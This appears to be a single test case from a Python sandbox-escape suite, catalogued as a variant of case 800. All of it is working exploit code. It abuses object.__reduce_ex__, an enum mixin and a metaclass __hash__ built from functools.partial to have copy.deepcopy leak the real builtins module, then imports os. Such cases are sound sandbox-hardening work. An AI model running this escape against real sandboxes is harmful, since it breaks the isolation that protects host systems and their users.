# technique: (variant of 800, different entry point) copy.deepcopy's own frame does _deepcopy_dispatch.get(type(x)): hashing a user class calls its metaclass's __hash__, a C functools.partial(functools.reduce, list.append, map(object.__reduce_ex__, [stdlib_obj], [4]), out) that runs the guarded reduce with deepcopy's frame on top and the exact (4) shape; out receives the real __dict__ of a stdlib partial (print.__self__ = real builtins)
# expect: any
import enum, functools, copy, json
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]
p = functools.partialmethod(staticmethod(print)).__get__(None, object)
out = []
class Meta(type):
    __hash__ = functools.partial(functools.reduce, list.append, map(red, [p], [4]), out)
class C(metaclass=Meta):
    pass
try:
    copy.deepcopy(C())
except Exception as e:
    print(type(e).__name__, e)
bi = out[0][2][3]["__self__"]
print(bi, bi.getattr(bi, "__import__")("os"))
